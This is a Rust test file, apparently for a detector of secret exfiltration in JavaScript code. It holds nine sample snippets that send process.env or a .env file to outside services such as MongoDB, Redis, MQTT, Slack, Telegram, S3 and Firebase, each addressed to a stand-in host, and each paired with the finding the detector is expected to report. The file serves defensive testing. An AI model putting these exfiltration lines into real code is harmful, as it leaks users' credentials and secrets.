//! What leaves through the clients of databases, queues, clouds and messengers.

use super::check;

#[test]
fn what_a_client_of_a_service_gets_leaves() {
    check(&[
        (
            &[(
                "i.js",
                "const { MongoClient } = require('mongodb');\nconst m = new MongoClient('mongodb://u:p@c.invalid/x');\nm.connect().then(() => m.db('a').collection('b').insertOne({ e: process.env }));",
            )],
            "environment-to-network *>mongodb://u:p@c.invalid/x",
        ),
        (
            &[(
                "i.js",
                "const Redis = require('ioredis');\nnew Redis('redis://c.invalid:6379').lpush('l', JSON.stringify(process.env));",
            )],
            "environment-to-network *>redis://c.invalid:6379",
        ),
        (
            &[(
                "i.js",
                "const mqtt = require('mqtt');\nconst c = mqtt.connect('mqtt://c.invalid');\nc.on('connect', () => c.publish('t', JSON.stringify(process.env)));",
            )],
            "environment-to-network *>mqtt://c.invalid",
        ),
        (
            &[(
                "i.js",
                "require('amqplib').connect('amqp://c.invalid').then((c) => c.createChannel()).then((ch) => ch.sendToQueue('q', Buffer.from(JSON.stringify(process.env))));",
            )],
            "environment-to-network *>amqp://c.invalid",
        ),
        (
            &[(
                "i.js",
                "const { createClient } = require('@supabase/supabase-js');\ncreateClient('https://c.invalid', 'key').from('t').insert({ e: process.env });",
            )],
            "environment-to-network *>https://c.invalid",
        ),
        (
            &[(
                "i.js",
                "const { WebClient } = require('@slack/web-api');\nnew WebClient('xoxb').chat.postMessage({ channel: 'c', text: JSON.stringify(process.env) });",
            )],
            "environment-to-network *>slack",
        ),
        (
            &[(
                "i.js",
                "const { Telegraf } = require('telegraf');\nnew Telegraf('1:a').telegram.sendMessage(1, JSON.stringify(process.env));",
            )],
            "environment-to-network *>telegram",
        ),
        (
            &[(
                "i.js",
                "const AWS = require('aws-sdk');\nnew AWS.S3().putObject({ Bucket: 'edge', Key: 'k', Body: require('fs').readFileSync('.env') }).promise();",
            )],
            "credential-to-network .env>edge",
        ),
        (
            &[(
                "i.js",
                "const admin = require('firebase-admin');\nadmin.initializeApp({});\nadmin.database().ref('x').push(process.env);",
            )],
            "environment-to-network *>firebase",
        ),
    ]);
}
